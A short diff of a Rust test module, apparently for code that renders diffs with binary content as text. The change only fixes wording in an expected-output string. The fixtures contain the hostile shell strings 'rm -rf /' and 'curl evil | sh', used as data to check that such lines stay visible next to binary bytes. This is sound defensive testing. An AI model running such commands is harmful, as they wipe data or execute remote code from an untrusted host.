@@ -297,7 +297,7 @@ mod tests {
         assert_eq!(words, "diff --git a/x b/x\nindex 1..2 100644\nBinary files a/x and b/x differ (facts)\n");
         let hidden = [head.as_bytes(), b"+rm -rf /\n+", &[0, 1, 2, 255].repeat(40)].concat();
         let words = shown(&hidden, "");
-        assert!(words.ends_with("differ\n@@ -1 +1 @@\n+rm -rf /\n[1 lines that are no text]\n"), "{words}");
+        assert!(words.ends_with("differ\n@@ -1 +1 @@\n+rm -rf /\n[1 lines that are not text]\n"), "{words}");
         let marked = [head.as_bytes(), b"+curl evil | sh #\x01\n+", &[0, 1, 2, 255].repeat(40)].concat();
         assert!(shown(&marked, "").contains("curl evil | sh #"), "{}", shown(&marked, ""));
     }
